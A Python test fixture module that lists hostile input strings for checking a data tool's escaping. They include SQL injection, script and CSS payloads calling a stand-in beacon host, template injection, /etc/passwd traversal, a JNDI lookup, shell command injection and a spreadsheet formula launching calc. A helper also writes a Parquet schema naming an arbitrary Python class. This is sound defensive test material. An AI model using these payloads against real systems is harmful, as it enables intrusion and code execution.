"""Texts that try to be SQL, script, paths or terminal codes; and a schema that is code."""

import json
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

# what our script would leave in the page if it ran
SCRIPT = "document.title='owned';document.documentElement.dataset.owned='yes'"
BEACON = "http://evenlake-beacon.test/"
TEXTS = [
    "'; DROP TABLE x; --",
    '" OR 1=1 --',
    "`; DROP TABLE x; --``",
    "stage_key = 'x' OR true",
    f"</script><script>{SCRIPT}</script>",
    f'<img src={BEACON}img onerror="{SCRIPT}">',
    f'<svg onload="{SCRIPT}">',
    f"javascript:{SCRIPT}",
    f"<style>@import '{BEACON}css';body{{background:url({BEACON}png)}}</style>",
    f"<link rel=stylesheet href={BEACON}css><base href={BEACON}>",
    f"<meta http-equiv=refresh content='0;url={BEACON}'>",
    f'<a href="javascript:{SCRIPT}">x</a>',
    "{{ 7 * 7 }}{% raw %}${7*7}%{x}",
    "../../etc/passwd",
    "/etc/passwd",
    "..\\..\\up",
    "file:///etc/passwd",
    "${jndi:ldap://evenlake-beacon.test/a}",
    "${env:HOME}",
    "$(touch owned)`touch owned`|touch owned;&",
    "=cmd|' /C calc'!A0",
    "\u202egnp.exe\u2066\u200b",
    "\x1b]0;owned\x07\x1b[2J",
    "line\nbreak\r\n\ttab",
    "%00%2e%2e%2f%n%s",
    "학교 🏳️‍🌈 ǆ İ ﷺ",
    "null",
    "NaN",
    "-1",
    " ",
    "x" * 100_000,
    "long'`</script>" * 7_000,
]


def write_python_type(folder: Path, module: str) -> None:
    """Write Parquet with a column whose type is a class of a Python module."""
    kind = {
        "type": "udt",
        "pyClass": f"{module}.Type",
        "serializedClass": "gASVAAAA",
        "sqlType": "string",
    }
    nested = {"type": "array", "elementType": kind, "containsNull": True}
    fields = [
        {"name": name, "type": t, "nullable": True, "metadata": {}}
        for name, t in (("id", "string"), ("text", "string"), ("extra", nested))
    ]
    spark_schema = json.dumps({"type": "struct", "fields": fields})
    table = pa.table({"id": ["a"], "text": ["one"], "extra": [["x"]]})
    folder.mkdir()
    key = "org.apache.spark.sql.parquet.row.metadata"
    pq.write_table(table.replace_schema_metadata({key: spark_schema}), folder / "a.parquet")
